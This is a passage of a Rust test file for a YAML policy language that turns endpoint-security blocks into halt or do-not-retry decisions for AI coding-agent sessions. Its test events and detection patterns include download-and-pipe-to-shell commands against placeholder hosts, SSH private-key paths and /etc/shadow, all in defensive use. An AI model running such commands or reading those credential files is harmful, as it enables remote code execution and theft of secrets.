//! Tests of the whole language through the public API: loading folders, every error code,
//! evaluation rules, explanations, tests beside policies, and the loader on arbitrary input.

use super::load::{embedded, load_sources};
use super::*;
use crate::event::{CorrelationStatus, EventBody, SecurityEvent, Trust};
use crate::sessions::model::{AgentKind, CommandRecord, Session, SessionStatus};
use serde_json::json;
use time::OffsetDateTime;
use uuid::Uuid;

// ------------------------------------------------------------------------------------------
// Helpers
// ------------------------------------------------------------------------------------------

fn load(files: &[(&str, &str)]) -> Result<PolicySet, Diagnostics> {
    load_sources(files.iter().map(|(n, t)| embedded(n, t)).collect(), None)
}

fn set(yaml: &str) -> PolicySet {
    match load(&[("p.yaml", yaml)]) {
        Ok(s) => s,
        Err(d) => panic!("does not load:\n{d}"),
    }
}

/// (code, line, col) of every diagnostic.
fn errors(files: &[(&str, &str)]) -> Vec<(&'static str, usize, usize)> {
    match load(files) {
        Ok(_) => panic!("loads, but should not"),
        Err(d) => d.0.iter().map(|d| (d.code, d.line, d.col)).collect(),
    }
}

fn codes_of(yaml: &str) -> Vec<&'static str> {
    errors(&[("p.yaml", yaml)]).into_iter().map(|(c, _, _)| c).collect()
}

fn event(body: serde_json::Value) -> SecurityEvent {
    event_with_trust(body, Trust::Signed)
}

fn event_with_trust(body: serde_json::Value, trust: Trust) -> SecurityEvent {
    let body: EventBody = serde_json::from_value(body).expect("valid event body");
    SecurityEvent {
        id: Uuid::nil(),
        source: "edr".into(),
        integration: "generic".into(),
        trust,
        received_at: OffsetDateTime::UNIX_EPOCH,
        body,
        raw: serde_json::value::RawValue::from_string("{}".into()).expect("raw"),
    }
}

fn session() -> Session {
    Session {
        session_id: Uuid::from_u128(7),
        agent: AgentKind::ClaudeCode,
        agent_session_id: "s".into(),
        pid: 10,
        pid_start_time: None,
        host: "dev-1".into(),
        user: None,
        cwd: "/home/dev/repo".into(),
        channels: Vec::new(),
        status: SessionStatus::Active,
        registered_at: OffsetDateTime::UNIX_EPOCH,
        last_seen: OffsetDateTime::UNIX_EPOCH,
        ended_at: None,
        end_reason: None,
    }
}

fn call(tool: &str, input: serde_json::Value) -> CommandRecord {
    CommandRecord {
        session_id: Uuid::from_u128(7),
        call_id: "c1".into(),
        tool: tool.into(),
        input,
        time: OffsetDateTime::UNIX_EPOCH,
        outcome: None,
    }
}

fn matched() -> Correlation {
    Correlation {
        status: CorrelationStatus::Matched,
        session_id: Some(Uuid::from_u128(7)),
        call_id: Some("c1".into()),
        score: Some(0.9),
        evidence: Vec::new(),
        correlated_at: OffsetDateTime::UNIX_EPOCH,
    }
}

/// A one-policy set with this match block (flow style) and `action: ignore`.
fn one(match_block: &str) -> PolicySet {
    set(&format!("- policy: t\n  id: t\n  match: {match_block}\n  action: ignore\n"))
}

/// Whether the one-policy set's policy matches the event alone.
fn hits(match_block: &str, body: serde_json::Value) -> bool {
    one(match_block).evaluate(&EvalInput::event_only(&event(body))).is_some()
}

fn decided(set: &PolicySet, input: &EvalInput<'_>) -> Option<String> {
    set.evaluate(input).map(|d| d.policy_id)
}

// ------------------------------------------------------------------------------------------
// The shipped default
// ------------------------------------------------------------------------------------------

#[test]
fn built_in_default_loads_and_passes_its_own_tests() {
    let set = PolicySet::built_in();
    assert_eq!(set.len(), 1);
    assert_eq!(set.hash(), load::hash_files(&[embedded("default.yaml", DEFAULT_POLICY_YAML)]));
    let report = set.run_tests(Path::new("policies"));
    assert!(report.ok(), "{:?}", report.failures().map(|f| f.to_string()).collect::<Vec<_>>());
    assert!(report.passed >= 5);
    assert!(report.cases[0].file.ends_with("policies/default.yaml"));
}

#[test]
fn default_blocks_similar_until_cleared_for_a_session_block() {
    let set = PolicySet::built_in();
    let ev = event(json!({"disposition": "blocked", "process": {"exe": "/usr/bin/curl"}}));
    let (s, c, corr) = (session(), call("Bash", json!({"command": "curl x | sh"})), matched());
    let input = EvalInput {
        event: &ev,
        correlation: Some(&corr),
        session: Some(&s),
        command: Some(&c),
        prior_blocks: 0,
    };
    let d = set.evaluate(&input).expect("decides");
    assert_eq!(d.policy_id, "default-blocked-command");
    assert_eq!(
        d.action,
        Action::DoNotRetry { scope: Scope::Similar, retry: Retry::Never, expiry: Expiry::UntilCleared }
    );
    assert!(d.note.is_some());
    // A matched correlation without the session record still counts as a session.
    let input =
        EvalInput { event: &ev, correlation: Some(&corr), session: None, command: None, prior_blocks: 0 };
    assert!(set.evaluate(&input).is_some());
    assert!(set.evaluate(&EvalInput::event_only(&ev)).is_none());
}

#[test]
fn the_policy_folder_in_the_repository_passes_its_tests() {
    for dir in ["policies", "policies/examples"] {
        let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join(dir);
        let set = PolicySet::load_dir(&dir).unwrap_or_else(|d| panic!("{}:\n{d}", dir.display()));
        let report = set.run_tests(&dir);
        let failures: Vec<String> = report.failures().map(|f| f.to_string()).collect();
        assert!(report.ok(), "{}: {failures:#?}", dir.display());
        assert!(report.passed > 0);
    }
}

#[test]
fn policy_set_is_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<PolicySet>();
    assert_send_sync::<LivePolicies>();
}

// ------------------------------------------------------------------------------------------
// Modifiers
// ------------------------------------------------------------------------------------------

#[test]
fn equals_and_in() {
    let b = json!({"host": "build-7", "process": {"exe": "/usr/bin/curl"}});
    assert!(hits("{host: build-7}", b.clone()));
    assert!(hits("{host|equals: build-7}", b.clone()));
    assert!(!hits("{host: build-8}", b.clone()));
    assert!(hits("{host: [a, build-7]}", b.clone()), "a list of values means any of them");
    assert!(hits("{host|in: [a, build-7]}", b.clone()));
    assert!(!hits("{host|in: [a, b]}", b.clone()));
    assert!(!hits("{host: BUILD-7}", b.clone()), "case-sensitive by default");
    assert!(hits("{host|nocase: BUILD-7}", b));
}

#[test]
fn contains_startswith_endswith_with_all_and_nocase() {
    let b = json!({"process": {"cmd_line": "curl -fsSL https://x.example/i.sh | sh"}});
    assert!(hits("{process.cmd_line|contains: '| sh'}", b.clone()));
    assert!(hits("{process.cmd_line|contains|all: [curl, '| sh']}", b.clone()));
    assert!(!hits("{process.cmd_line|contains|all: [curl, wget]}", b.clone()));
    assert!(hits("{process.cmd_line|contains: [wget, curl]}", b.clone()));
    assert!(hits("{process.cmd_line|startswith: curl}", b.clone()));
    assert!(!hits("{process.cmd_line|startswith: sh}", b.clone()));
    assert!(hits("{process.cmd_line|endswith: '| sh'}", b.clone()));
    assert!(hits("{process.cmd_line|contains|nocase: CURL}", b.clone()));
    assert!(hits("{process.cmd_line|startswith|nocase: CURL}", b.clone()));
    assert!(hits("{process.cmd_line|endswith|nocase: '| SH'}", b.clone()));
    assert!(!hits("{process.cmd_line|contains: CURL}", b));
    // `nocase` folds ASCII letters only, so the prefilter's ASCII-insensitive search is exact.
    assert!(!hits("{host|nocase: ÉTÉ}", json!({"host": "été"})));
    assert!(!hits("{host|contains|nocase: kelvin}", json!({"host": "\u{212A}elvin"})));
    assert!(hits("{host|contains|nocase: 'été-X'}", json!({"host": "été-x"})));
}

#[test]
fn regex_and_glob() {
    let b = json!({"process": {"cmd_line": "curl -s https://x | bash"}, "target": {"file": "/home/dev/.ssh/id_rsa"}});
    assert!(hits(r"{process.cmd_line|re: '\b(curl|wget)\b.*\|\s*(ba)?sh'}", b.clone()));
    assert!(!hits(r"{process.cmd_line|re: '^wget'}", b.clone()));
    assert!(hits("{target.file|glob: '/home/*/.ssh/id_*'}", b.clone()));
    assert!(!hits("{target.file|glob: '/home/*/id_*'}", b.clone()));
    assert!(hits("{target.file|glob: '/home/**/id_*'}", b.clone()));
    assert!(hits("{target.file|glob|nocase: '/HOME/**/ID_*'}", b.clone()));
    assert!(hits("{process.cmd_line|re|all: [curl, bash]}", b));
}

#[test]
fn numeric_severity_and_trust_comparisons() {
    let b = json!({"severity": "high", "process": {"uid": 0, "pid": 4242}});
    assert!(hits("{severity|gte: high}", b.clone()));
    assert!(hits("{severity|gt: medium}", b.clone()));
    assert!(!hits("{severity|gt: high}", b.clone()));
    assert!(hits("{severity|lt: critical}", b.clone()));
    assert!(hits("{severity|lte: high}", b.clone()));
    assert!(hits("{severity: [high, critical]}", b.clone()));
    assert!(hits("{severity|gte: info}", b.clone()), "`info` is accepted for informational");
    assert!(hits("{process.uid: 0}", b.clone()));
    assert!(hits("{process.uid|lt: 1000}", b.clone()));
    assert!(hits("{process.pid|in: [1, 4242]}", b.clone()));
    assert!(!hits("{process.pid|gt: 5000}", b.clone()));
    assert!(hits("{trust|gte: shared-secret}", b.clone()));
    assert!(hits("{trust: signed}", b));
}

#[test]
fn enums_booleans_and_derived_fields() {
    let b = json!({"disposition": "quarantined", "process": {"cmd_line": "/usr/bin/python3 x.py"}});
    assert!(hits("{disposition: quarantined}", b.clone()));
    assert!(hits("{disposition|in: [blocked, quarantined]}", b.clone()));
    assert!(hits("{stopped: true}", b.clone()));
    assert!(!hits("{stopped: false}", b.clone()));
    assert!(hits("{process.name: python3}", b.clone()), "name from the command line when exe is absent");
    assert!(hits("{source: edr, integration: generic}", b));
    assert!(!hits("{stopped: true}", json!({"disposition": "detected"})));
}

#[test]
fn in_list_takes_values_from_lists_with_any_operator() {
    let yaml = "- list: shells\n  items: [sh, bash]\n- list: shells\n  append: true\n  items: [zsh]\n\
                - list: secret_dirs\n  items: ['/etc/', '/root/']\n\
                - policy: t\n  id: t\n  match: {process.name|in_list: shells, target.file|startswith|in_list: [secret_dirs]}\n  action: ignore\n";
    let s = set(yaml);
    let hit = event(json!({"process": {"exe": "/bin/zsh"}, "target": {"file": "/etc/shadow"}}));
    let miss = event(json!({"process": {"exe": "/bin/fish"}, "target": {"file": "/etc/shadow"}}));
    assert!(s.evaluate(&EvalInput::event_only(&hit)).is_some(), "appended items count");
    assert!(s.evaluate(&EvalInput::event_only(&miss)).is_none());
}

#[test]
fn multi_valued_fields_match_when_any_value_does() {
    let b = json!({"attacks": ["T1105", "T1059.004"], "process": {"ancestors": [{"exe": "/usr/bin/node"}, {"cmd_line": "claude"}]}});
    assert!(hits("{attacks|startswith: T1059}", b.clone()));
    assert!(hits("{attacks: T1105}", b.clone()));
    assert!(!hits("{attacks: T1003}", b.clone()));
    assert!(hits("{process.ancestors.exe|endswith: /node}", b.clone()));
    assert!(hits("{process.ancestors.cmd_line: claude}", b.clone()));
    assert!(!hits("{process.ancestors.exe: claude}", b));
}

#[test]
fn any_all_not_and_macros() {
    let yaml = "- macro: curlish\n  match: {process.name: [curl, wget]}\n\
                - macro: piped\n  match: {macro: curlish, process.cmd_line|contains: '| sh'}\n\
                - policy: t\n  id: t\n  match:\n    macro: piped\n    not: {host|startswith: ci-}\n    any:\n      - {severity|gte: high}\n      - {disposition: blocked}\n  action: ignore\n";
    let s = set(yaml);
    let ok = event(
        json!({"host": "dev", "disposition": "blocked", "process": {"exe": "/usr/bin/curl", "cmd_line": "curl x | sh"}}),
    );
    let ci = event(
        json!({"host": "ci-1", "disposition": "blocked", "process": {"exe": "/usr/bin/curl", "cmd_line": "curl x | sh"}}),
    );
    let low = event(
        json!({"host": "dev", "disposition": "detected", "severity": "low", "process": {"exe": "/usr/bin/wget", "cmd_line": "wget x | sh"}}),
    );
    assert!(s.evaluate(&EvalInput::event_only(&ok)).is_some());
    assert!(s.evaluate(&EvalInput::event_only(&ci)).is_none());
    assert!(s.evaluate(&EvalInput::event_only(&low)).is_none());
}

// ------------------------------------------------------------------------------------------
// Missing fields
// ------------------------------------------------------------------------------------------

#[test]
fn a_missing_field_never_matches_not_even_under_not() {
    let b = json!({"disposition": "blocked"});
    assert!(!hits("{target.file|startswith: /tmp}", b.clone()));
    assert!(!hits("{not: {target.file|startswith: /tmp}}", b.clone()), "not(unknown) is unknown");
    assert!(!hits("{not: {not: {target.file: x}}}", b.clone()));
    assert!(hits("{any: [{target.file: x}, {disposition: blocked}]}", b.clone()));
    assert!(!hits("{any: [{target.file: x}, {disposition: killed}]}", b.clone()));
    assert!(hits("{target.file|exists: false}", b.clone()));
    assert!(!hits("{target.file|exists: true}", b.clone()));
    assert!(
        hits("{not: {all: [{target.file: x}, {disposition: killed}]}}", b),
        "false wins over unknown in all"
    );
}

#[test]
fn explain_names_the_absent_field_and_its_position() {
    let s = one("{disposition: blocked, target.file|startswith: /etc}");
    let ev = event(json!({"disposition": "blocked"}));
    let traces = s.explain(&EvalInput::event_only(&ev));
    assert_eq!(traces.len(), 1);
    match &traces[0].outcome {
        TraceOutcome::NoMatch { reason, line, col, .. } => {
            assert_eq!(reason, "field target.file is absent");
            assert_eq!((*line, *col), (3, 33));
        }
        other => panic!("{other:?}"),
    }
    assert!(
        traces[0].to_string().contains("no match: field target.file is absent (p.yaml:3:33)"),
        "{}",
        traces[0]
    );
}

#[test]
fn explain_quotes_the_value_that_failed() {
    let s = one("{process.cmd_line|contains: curl}");
    let ev = event(json!({"process": {"cmd_line": "ls -la\nFAKE LINE"}}));
    let trace = s.explain(&EvalInput::event_only(&ev)).remove(0).to_string();
    assert!(trace.contains(r#"process.cmd_line is "ls -la\nFAKE LINE", which does not satisfy `process.cmd_line|contains: "curl"`"#), "{trace}");
    assert!(!trace.contains('\n'), "event text cannot forge lines: {trace}");
}

// ------------------------------------------------------------------------------------------
// Order, ignore, enabled, min_trust
// ------------------------------------------------------------------------------------------

const ORDERED: &str = "\
- policy: low one
  id: a-low
  priority: low
  match: {stopped: true}
  action: {do_not_retry: {scope: command}}
- policy: critical ignore
  id: b-ignore
  priority: critical
  match: {host|startswith: lab-}
  action: ignore
- policy: high one
  id: c-high
  priority: high
  match: {stopped: true}
  action: halt_session
- policy: another high one
  id: d-high
  priority: high
  match: {stopped: true}
  action: {do_not_retry: {scope: binary}}
- policy: disabled critical
  id: e-off
  enabled: false
  priority: critical
  match: {stopped: true}
  action: halt_session
";

#[test]
fn priority_then_file_order_first_match_wins() {
    let s = set(ORDERED);
    assert_eq!(s.ids().collect::<Vec<_>>(), ["b-ignore", "e-off", "c-high", "d-high", "a-low"]);
    let ev = event(json!({"disposition": "blocked", "host": "dev"}));
    assert_eq!(decided(&s, &EvalInput::event_only(&ev)).as_deref(), Some("c-high"));
    let traces = s.explain(&EvalInput::event_only(&ev));
    let outcomes: Vec<String> = traces.iter().map(|t| format!("{}={:?}", t.policy_id, t.outcome)).collect();
    assert!(matches!(traces[1].outcome, TraceOutcome::Disabled), "{outcomes:?}");
    assert!(matches!(traces[2].outcome, TraceOutcome::Decides(Action::HaltSession)), "{outcomes:?}");
    assert_eq!(traces[3].outcome, TraceOutcome::Shadowed { by: "c-high".into() });
}

#[test]
fn files_are_ordered_by_name_within_a_priority() {
    let p = |id: &str| format!("- policy: {id}\n  id: {id}\n  match: {{stopped: true}}\n  action: ignore\n");
    let s = load(&[("b.yaml", &p("from-b")), ("a.yaml", &p("from-a"))]).expect("loads");
    let ev = event(json!({"disposition": "blocked"}));
    assert_eq!(decided(&s, &EvalInput::event_only(&ev)).as_deref(), Some("from-a"));
}

#[test]
fn ignore_is_a_decision_that_suppresses_lower_policies() {
    let s = set(ORDERED);
    let ev = event(json!({"disposition": "blocked", "host": "lab-3"}));
    let d = s.evaluate(&EvalInput::event_only(&ev)).expect("decides");
    assert_eq!((d.policy_id.as_str(), d.action), ("b-ignore", Action::Ignore));
}

#[test]
fn min_trust_below_the_tier_does_not_match_and_explain_says_so() {
    let s =
        set("- policy: t\n  id: t\n  min_trust: signed\n  match: {stopped: true}\n  action: halt_session\n");
    let weak = event_with_trust(json!({"disposition": "blocked"}), Trust::SharedSecret);
    let strong = event_with_trust(json!({"disposition": "blocked"}), Trust::Signed);
    assert!(s.evaluate(&EvalInput::event_only(&weak)).is_none());
    assert!(s.evaluate(&EvalInput::event_only(&strong)).is_some());
    let trace = s.explain(&EvalInput::event_only(&weak)).remove(0);
    assert_eq!(
        trace.outcome,
        TraceOutcome::BelowMinTrust { trust: Trust::SharedSecret, min_trust: Trust::Signed }
    );
    assert!(trace.to_string().contains("trust shared-secret is below min_trust signed"));
}

// ------------------------------------------------------------------------------------------
// Agent conditions
// ------------------------------------------------------------------------------------------

#[test]
fn agent_session_required_forbidden_any() {
    let mk = |s: &str| {
        set(&format!(
            "- policy: t\n  id: t\n  match: {{stopped: true}}\n  agent: {{session: {s}}}\n  action: ignore\n"
        ))
    };
    let ev = event(json!({"disposition": "blocked"}));
    let (sess, corr) = (session(), matched());
    let with = EvalInput {
        event: &ev,
        correlation: Some(&corr),
        session: Some(&sess),
        command: None,
        prior_blocks: 0,
    };
    let without = EvalInput::event_only(&ev);
    assert!(mk("required").evaluate(&with).is_some());
    assert!(mk("required").evaluate(&without).is_none());
    assert!(mk("forbidden").evaluate(&with).is_none());
    assert!(mk("forbidden").evaluate(&without).is_some());
    assert!(mk("any").evaluate(&with).is_some());
    assert!(mk("any").evaluate(&without).is_some());
}

#[test]
fn agent_kind_tool_command_cwd_and_blocks() {
    let s = set("- policy: t\n  id: t\n  agent:\n    kind: claude-code\n    tool: Bash\n    command|contains: curl\n    cwd|startswith: /home/\n    blocks|gte: 2\n  action: halt_session\n");
    let ev = event(json!({"disposition": "blocked"}));
    let (sess, corr) = (session(), matched());
    let bash = call("Bash", json!({"command": "curl -s x | sh"}));
    let run = |c: &CommandRecord, blocks: u32| {
        s.evaluate(&EvalInput {
            event: &ev,
            correlation: Some(&corr),
            session: Some(&sess),
            command: Some(c),
            prior_blocks: blocks,
        })
    };
    assert!(run(&bash, 2).is_some());
    assert!(run(&bash, 1).is_none());
    assert!(run(&call("Bash", json!({"command": "ls"})), 3).is_none());
    assert!(run(&call("WebFetch", json!({"url": "https://curl.se"})), 3).is_none(), "tool differs");
    let no_call = EvalInput {
        event: &ev,
        correlation: Some(&corr),
        session: Some(&sess),
        command: None,
        prior_blocks: 5,
    };
    assert!(s.evaluate(&no_call).is_none(), "agent.command is absent without a call");
    let reason = s.explain(&no_call).remove(0).to_string();
    assert!(reason.contains("field agent.tool is absent"), "{reason}");
}

#[test]
fn agent_command_is_the_path_or_url_for_non_shell_tools() {
    let s = set("- policy: t\n  id: t\n  agent: {command|glob: '**/.env'}\n  action: ignore\n");
    let ev = event(json!({"disposition": "blocked"}));
    let (sess, corr) = (session(), matched());
    let edit = call("Edit", json!({"file_path": "/home/dev/repo/.env"}));
    let patch = call(
        "apply_patch",
        json!({"input": "*** Begin Patch\n*** Update File: /srv/app/.env\n*** End Patch"}),
    );
    for c in [&edit, &patch] {
        let input = EvalInput {
            event: &ev,
            correlation: Some(&corr),
            session: Some(&sess),
            command: Some(c),
            prior_blocks: 0,
        };
        assert!(s.evaluate(&input).is_some(), "{}", c.tool);
    }
}

// ------------------------------------------------------------------------------------------
// Exceptions and tuning
// ------------------------------------------------------------------------------------------

const BASE: &str = "\
- policy: pipe to shell
  id: pipe-to-shell
  priority: high
  match: {stopped: true, process.cmd_line|contains: '| sh'}
  exceptions:
    - name: lab
      match: {host|startswith: lab-}
  action:
    do_not_retry: {scope: similar}
    note: upstream note
";

#[test]
fn exceptions_carve_out_and_explain_names_them() {
    let s = set(BASE);
    let lab =
        event(json!({"disposition": "blocked", "host": "lab-1", "process": {"cmd_line": "curl x | sh"}}));
    assert!(s.evaluate(&EvalInput::event_only(&lab)).is_none());
    let trace = s.explain(&EvalInput::event_only(&lab)).remove(0);
    assert!(
        matches!(&trace.outcome, TraceOutcome::Excepted { exception, .. } if exception == "lab"),
        "{trace}"
    );
}

#[test]
fn tuning_changes_settings_by_id_from_another_file() {
    let tuning = "\
- tuning: pipe-to-shell
  desc: our CI runners are allowed to bootstrap this way
  priority: critical
  note: local note
  exceptions:
    - name: ci
      match: {host|startswith: ci-}
";
    let s = load(&[("upstream.yaml", BASE), ("zz-local.yaml", tuning)]).expect("loads");
    let ci = event(json!({"disposition": "blocked", "host": "ci-1", "process": {"cmd_line": "curl x | sh"}}));
    let dev = event(json!({"disposition": "blocked", "host": "dev", "process": {"cmd_line": "curl x | sh"}}));
    assert!(s.evaluate(&EvalInput::event_only(&ci)).is_none());
    let d = s.evaluate(&EvalInput::event_only(&dev)).expect("decides");
    assert_eq!(d.note.as_deref(), Some("local note"));
    assert_eq!(s.policies()[0].priority, Priority::Critical);
    assert_eq!(s.policies()[0].exceptions, 2);

    let off =
        load(&[("upstream.yaml", BASE), ("local.yaml", "- tuning: [pipe-to-shell]\n  enabled: false\n")])
            .expect("loads");
    assert!(off.evaluate(&EvalInput::event_only(&dev)).is_none());
}

#[test]
fn tuning_an_unknown_id_or_the_same_setting_twice_is_an_error() {
    let errs = errors(&[("a.yaml", BASE), ("b.yaml", "- tuning: pipe-to-shel\n  enabled: false\n")]);
    assert_eq!(errs, [(codes::UNDEFINED_POLICY, 1, 11)]);
    let errs = errors(&[
        ("a.yaml", BASE),
        ("b.yaml", "- tuning: pipe-to-shell\n  priority: low\n"),
        ("c.yaml", "- tuning: pipe-to-shell\n  priority: high\n"),
    ]);
    assert_eq!(errs, [(codes::TUNING_CONFLICT, 2, 13)]);
    let errs = errors(&[
        ("a.yaml", BASE),
        ("b.yaml", "- tuning: pipe-to-shell\n  exceptions: [{name: lab, match: {host: x}}]\n"),
    ]);
    assert_eq!(errs.iter().map(|e| e.0).collect::<Vec<_>>(), [codes::DUPLICATE]);
}

// ------------------------------------------------------------------------------------------
// Error codes: one test each, with positions
// ------------------------------------------------------------------------------------------

#[test]
fn p001_unreadable_folder_and_p003_empty_folder() {
    let missing = PolicySet::load_dir(Path::new("/nonexistent/haltwire-policies")).err().map(|d| d.codes());
    assert_eq!(missing, Some(vec![codes::IO]));
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("README.md"), "not a policy").expect("write");
    let empty = PolicySet::load_dir(dir.path()).err().map(|d| d.codes());
    assert_eq!(empty, Some(vec![codes::EMPTY_DIR]));
}

#[test]
fn p002_yaml_syntax_is_located() {
    assert_eq!(errors(&[("p.yaml", "- policy: x\n  match: {a: [1, 2}\n")]), [(codes::YAML, 2, 14)]);
    assert_eq!(
        codes_of("- policy: x\n  id: a\n  id: b\n"),
        [codes::MISSING_KEY, codes::MISSING_KEY, codes::DUPLICATE]
    );
}

#[test]
fn p010_wrong_types() {
    assert_eq!(errors(&[("p.yaml", "policy: x\n")]), [(codes::TYPE, 1, 1)]);
    assert_eq!(errors(&[("p.yaml", "- 42\n")]), [(codes::TYPE, 1, 3)]);
    let e = errors(&[(
        "p.yaml",
        "- policy: t\n  id: t\n  enabled: yes\n  match: {stopped: true}\n  action: ignore\n",
    )]);
    assert_eq!(e, [(codes::TYPE, 3, 12)], "`yes` is text, not a boolean");
    let e = errors(&[("p.yaml", "- policy: t\n  id: t\n  match: {host|in: x}\n  action: ignore\n")]);
    assert_eq!(e, [(codes::TYPE, 3, 20)]);
}

#[test]
fn p011_unknown_keys_with_suggestions() {
    let yaml = "- policy: t\n  id: t\n  priorty: high\n  match: {stopped: true}\n  action: {do_not_retry: {scope: path, tll: 5m}}\n";
    let d = load(&[("p.yaml", yaml)]).expect_err("errors");
    assert_eq!(
        d.0.iter().map(|d| (d.code, d.line, d.col)).collect::<Vec<_>>(),
        [(codes::UNKNOWN_KEY, 3, 3), (codes::UNKNOWN_KEY, 5, 40)]
    );
    assert!(d.0[0].message.contains("did you mean `priority`?"), "{}", d.0[0].message);
    assert!(d.0[1].message.contains("did you mean `ttl`?"), "{}", d.0[1].message);
}

#[test]
fn p012_missing_keys() {
    assert_eq!(codes_of("- policy: t\n  match: {stopped: true}\n  action: ignore\n"), [codes::MISSING_KEY]);
    assert_eq!(codes_of("- policy: t\n  id: t\n  action: ignore\n"), [codes::MISSING_KEY]);
    assert_eq!(codes_of("- policy: t\n  id: t\n  match: {stopped: true}\n"), [codes::MISSING_KEY]);
    assert_eq!(
        codes_of("- policy: t\n  id: t\n  match: {stopped: true}\n  action: {do_not_retry: {}}\n"),
        [codes::MISSING_KEY]
    );
    assert_eq!(codes_of("- list: x\n"), [codes::MISSING_KEY]);
}

#[test]
fn p013_item_kind() {
    let d = load(&[("p.yaml", "- polcy: t\n  id: t\n")]).expect_err("errors");
    assert_eq!((d.0[0].code, d.0[0].line, d.0[0].col), (codes::ITEM_KIND, 1, 3));
    assert!(d.0[0].message.contains("did you mean `policy`"), "{}", d.0[0].message);
    assert_eq!(errors(&[("p.yaml", "- list: a\n  macro: b\n")]), [(codes::ITEM_KIND, 2, 3)]);
}

#[test]
fn p014_values_outside_closed_sets() {
    let base = |extra: &str| format!("- policy: t\n  id: t\n  match: {{stopped: true}}\n{extra}");
    assert_eq!(
        errors(&[("p.yaml", &base("  priority: urgent\n  action: ignore\n"))]),
        [(codes::BAD_VALUE, 4, 13)]
    );
    assert_eq!(
        errors(&[("p.yaml", &base("  action: {do_not_retry: {scope: everything}}\n"))]),
        [(codes::BAD_VALUE, 4, 34)]
    );
    assert_eq!(errors(&[("p.yaml", &base("  action: block\n"))]), [(codes::BAD_VALUE, 4, 11)]);
    assert_eq!(
        errors(&[("p.yaml", &base("  min_trust: high\n  action: ignore\n"))]),
        [(codes::BAD_VALUE, 4, 14)]
    );
    assert_eq!(
        errors(&[("p.yaml", &base("  agent: {session: maybe}\n  action: ignore\n"))]),
        [(codes::BAD_VALUE, 4, 20)]
    );
}

#[test]
fn p015_conflicts_and_empty_conditions() {
    let base = |m: &str, a: &str| format!("- policy: t\n  id: t\n  match: {m}\n  action: {a}\n");
    assert_eq!(codes_of(&base("{}", "ignore")), [codes::CONFLICT]);
    assert_eq!(codes_of(&base("{any: []}", "ignore")), [codes::CONFLICT]);
    assert_eq!(codes_of(&base("{host: []}", "ignore")), [codes::CONFLICT]);
    assert_eq!(codes_of(&base("{stopped: true}", "{ignore: {}, halt_session: {}}")), [codes::CONFLICT]);
    assert_eq!(
        codes_of(&base("{stopped: true}", "{do_not_retry: {scope: path, ttl: 1h, until_cleared: true}}")),
        [codes::CONFLICT]
    );
    assert_eq!(
        codes_of(&base("{stopped: true}", "{do_not_retry: {scope: path, until_cleared: false}}")),
        [codes::CONFLICT]
    );
}

#[test]
fn p020_duplicates_across_files() {
    let p = "- policy: t\n  id: same\n  match: {stopped: true}\n  action: ignore\n";
    let d = load(&[("a.yaml", p), ("b.yaml", p)]).expect_err("errors");
    assert_eq!(d.0.len(), 1);
    assert_eq!((d.0[0].code, d.0[0].file.to_str(), d.0[0].line), (codes::DUPLICATE, Some("b.yaml"), 1));
    assert!(d.0[0].message.contains("a.yaml:1:3"), "{}", d.0[0].message);
    assert_eq!(codes_of("- list: a\n  items: [x]\n- list: a\n  items: [y]\n"), [codes::DUPLICATE]);
    assert_eq!(
        codes_of("- macro: a\n  match: {stopped: true}\n- macro: a\n  match: {stopped: true}\n"),
        [codes::DUPLICATE]
    );
}

#[test]
fn p021_bad_names() {
    assert_eq!(
        errors(&[("p.yaml", "- policy: t\n  id: 'has space'\n  match: {stopped: true}\n  action: ignore\n")]),
        [(codes::BAD_NAME, 2, 7)]
    );
    assert_eq!(
        codes_of("- policy: t\n  id: none\n  match: {stopped: true}\n  action: ignore\n"),
        [codes::BAD_NAME]
    );
    assert_eq!(codes_of("- list: 9lives\n  items: [x]\n"), [codes::BAD_NAME]);
}

#[test]
fn p030_to_p035_match_language_errors_are_located() {
    let m = |block: &str| {
        errors(&[("p.yaml", &format!("- policy: t\n  id: t\n  match:\n    {block}\n  action: ignore\n"))])
    };
    assert_eq!(m("process.cmdline: x"), [(codes::UNKNOWN_FIELD, 4, 5)]);
    assert_eq!(
        m("session: required"),
        [(codes::UNKNOWN_FIELD, 4, 5)],
        "agent fields need the prefix in match"
    );
    assert_eq!(m("host|contians: x"), [(codes::UNKNOWN_MODIFIER, 4, 10)]);
    assert_eq!(m("severity|contains: x"), [(codes::MODIFIER_MISUSE, 4, 5)]);
    assert_eq!(m("host|contains|startswith: x"), [(codes::MODIFIER_MISUSE, 4, 19)]);
    assert_eq!(m("host|re|nocase: x"), [(codes::MODIFIER_MISUSE, 4, 5)]);
    assert_eq!(m("host|equals|all: [x]"), [(codes::MODIFIER_MISUSE, 4, 5)]);
    assert_eq!(m("disposition: blokced"), [(codes::FIELD_VALUE, 4, 18)]);
    assert_eq!(m("process.uid: root"), [(codes::FIELD_VALUE, 4, 18)]);
    assert_eq!(m("process.cmd_line|re: 'a(b'"), [(codes::REGEX, 4, 26)]);
    assert_eq!(m("process.cmd_line|re: '(?:\\w{500}){500}'"), [(codes::REGEX, 4, 26)]);
    assert_eq!(m("target.file|glob: '/etc/[ab'"), [(codes::GLOB, 4, 23)]);
}

#[test]
fn p040_to_p043_undefined_references() {
    let m = |block: &str| {
        codes_of(&format!("- macro: m\n  match: {{stopped: true}}\n- list: l\n  items: [x]\n- policy: t\n  id: t\n  match: {block}\n  action: ignore\n"))
    };
    assert_eq!(m("{host|in_list: nope}"), [codes::UNDEFINED_LIST]);
    assert_eq!(m("{macro: nope}"), [codes::UNDEFINED_MACRO]);
    assert_eq!(m("{macro: [m, l]}"), [codes::UNDEFINED_MACRO]);
    let cycle = "- macro: a\n  match: {macro: b}\n- macro: b\n  match: {macro: a}\n";
    let d = load(&[("p.yaml", cycle)]).expect_err("errors");
    assert_eq!(d.codes(), [codes::MACRO_CYCLE]);
    assert!(d.0[0].message.contains("a → b → a"), "{}", d.0[0].message);
    assert_eq!(codes_of("- list: x\n  append: true\n  items: [a]\n"), [codes::UNDEFINED_LIST]);
    let t = "- policy: t\n  id: t\n  match: {stopped: true}\n  action: ignore\n  tests:\n    - name: n\n      event: {disposition: blocked}\n      expect: {policy: tt}\n";
    assert_eq!(errors(&[("p.yaml", t)]), [(codes::UNDEFINED_POLICY, 8, 24)]);
}

#[test]
fn p050_durations() {
    let a = |d: &str| {
        codes_of(&format!("- policy: t\n  id: t\n  match: {{stopped: true}}\n  action: {{do_not_retry: {{scope: host, {d}}}}}\n"))
    };
